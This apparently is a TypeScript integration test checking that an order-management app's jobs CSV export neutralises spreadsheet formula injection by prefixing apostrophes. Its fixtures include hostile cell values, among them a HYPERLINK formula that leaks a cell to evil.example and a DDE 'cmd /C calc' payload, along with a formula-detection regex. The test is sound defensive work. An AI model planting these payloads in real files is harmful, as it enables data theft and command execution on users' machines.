// The jobs CSV export cannot carry a formula into a spreadsheet: storefront customers write order
// notes, so hostile text is an ordinary row. The export is read over real HTTP and back with a
// standard CSV parser, and every cell of the hostile rows is checked.
import { createMetrics, createRateLimits, createSiteChangeListener, hashToken, newToken, poolConnection } from "@orderdeck/api";
import { generatePickupCode } from "@orderdeck/contracts";
import { createTestDatabase, type TestDatabase } from "@orderdeck/db/testing";
import { createLogger } from "@orderdeck/logging";
import { parse } from "csv-parse/sync";
import type { FastifyInstance } from "fastify";
import pg from "pg";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildApp } from "../src/app.ts";

const SECRET = "test-secret-key-that-is-long-enough";
let db: TestDatabase;
let app: FastifyInstance;
let opsPool: pg.Pool;
let url: string;
let token: string;
let siteId: string;

/** Hostile notes, and each as the export must write it: an apostrophe before every line that starts like a formula. */
const NOTES: Array<[string, string]> = [
  ['Please hurry\n=HYPERLINK("http://evil.example/?leak="&A1,"Click")', 'Please hurry\n\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'],
  ["\r\n+1+2", "'\r\n'+1+2"],
  ["@SUM(1,2)", "'@SUM(1,2)"],
  ["\t=1+1", "'\t=1+1"],
  ["-2+3", "'-2+3"],
  ["first line\rsecond\n-5 mm", "first line\rsecond\n'-5 mm"],
  ['ok, "quoted"\n@cmd', 'ok, "quoted"\n\'@cmd'],
  ["=1\n=2\r\n=3\r=4", "'=1\n'=2\r\n'=3\r'=4"],
  ["\uFF1D1+1", "'\uFF1D1+1"],
  ["nothing to see, just a comma", "nothing to see, just a comma"],
];

/** Cells of single-line fields that start like a formula. */
const TITLE = "=cmd|' /C calc'!A0";
const CUSTOMER = "+49 (0) 30 1234";
const EXTERNAL_ID = "@HYPERLINK";

// What a formula starts with (OWASP), and the full-width forms some spreadsheets read the same.
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

beforeAll(async () => {
  db = await createTestDatabase();
  opsPool = new pg.Pool({ connectionString: db.url, max: 2 });
  app = await buildApp({
    prisma: db.prisma,
    logger: createLogger({ silent: true }),
    metrics: createMetrics(),
    version: "test",
    sessions: { secretKey: SECRET, idleMs: 3_600_000 },
    rateLimits: createRateLimits(db.pool),
    opsPool,
    corsOrigins: [],
    metricsToken: undefined,
    intake: { withConnection: poolConnection(db.pool) },
    siteChanges: createSiteChangeListener({ connectionString: db.url, logger: createLogger({ silent: true }) }),
    workerHeartbeatStaleMs: 3_600_000,
  });
  url = await app.listen({ host: "127.0.0.1", port: 0 });
  const site = await db.prisma.site.create({ data: { name: "Formula shop", timezone: "Europe/Berlin" } });
  siteId = site.id;
  const user = await db.prisma.user.create({
    data: { siteId, email: `staff.${siteId.slice(0, 8)}@orderdeck.test`, name: "Staff", role: "STAFF", passwordHash: "not-used-here" },
  });
  token = newToken();
  await db.prisma.session.create({ data: { siteId, userId: user.id, tokenHash: hashToken(SECRET, token), expiresAt: new Date(Date.now() + 3_600_000) } });
  const customer = await db.prisma.customer.create({ data: { siteId, name: "-Mallory", email: "=evil@example.com", phone: CUSTOMER } });
  for (const [i, [notes]] of NOTES.entries()) {
    await db.prisma.job.create({
      data: {
        siteId,
        source: "FEED",
        externalId: `${EXTERNAL_ID}-${i}`,
        title: `${TITLE} #${i}`,
        material: "@PLA",
        colour: "-black",
        customerId: customer.id,
        notes,
        status: "QUEUED",
        queuePosition: (i + 1) * 1024,
        pickupCode: generatePickupCode(),
      },
    });
  }
});

afterAll(async () => {
  await app.close();
  await opsPool.end();
  await db.drop();
});

async function exportCsv(): Promise<string> {
  const response = await fetch(`${url}/exports/jobs.csv`, {
    method: "POST",
    headers: { "content-type": "application/json", authorization: `Bearer ${token}` },
    body: JSON.stringify({ sort: { field: "queue", direction: "asc" } }),
  });
  expect(response.status).toBe(200);
  expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
  return response.text();
}

describe("POST /exports/jobs.csv with hostile text", () => {
  it("parses back into exactly one row per job, every cell neutralised and every note kept", async () => {
    const body = await exportCsv();
    // A strict parser: a cell's line break left unquoted would start a record of the wrong width, and fail here.
    const records = parse(body, { bom: true, columns: true, relax_column_count: false, relax_quotes: false }) as Array<Record<string, string>>;
    expect(records).toHaveLength(NOTES.length);
    for (const [i, record] of records.entries()) {
      for (const [column, cell] of Object.entries(record)) {
        for (const line of cell.split(/\r\n|\r|\n/)) {
          expect(FORMULA_START.test(line), `row ${i}, ${column}: line ${JSON.stringify(line)} starts like a formula`).toBe(false);
        }
      }
      expect(record.notes, `notes of row ${i}`).toBe(NOTES[i]?.[1]);
      expect(record).toMatchObject({
        external_id: `'${EXTERNAL_ID}-${i}`,
        title: `'${TITLE} #${i}`,
        customer_name: "'-Mallory",
        customer_email: "'=evil@example.com",
        customer_phone: `'${CUSTOMER}`,
        material: "'@PLA",
        colour: "'-black",
        status: "QUEUED",
      });
    }
  });

  it("quotes every cell that holds a line break, so no physical line of the file starts like a formula", async () => {
    const body = await exportCsv();
    // A reader that takes any line break for the end of a record (as a spreadsheet does with a bare
    // LF left unquoted) still finds no line that starts a formula.
    for (const line of body.replace(/^\uFEFF/, "").split(/\r\n|\r|\n/)) {
      expect(FORMULA_START.test(line), `physical line ${JSON.stringify(line)}`).toBe(false);
    }
    const multiline = NOTES.filter(([notes]) => /[\r\n]/.test(notes)).map(([, written]) => written);
    for (const written of multiline) expect(body).toContain(`"${written.replaceAll('"', '""')}"`);
  });
});
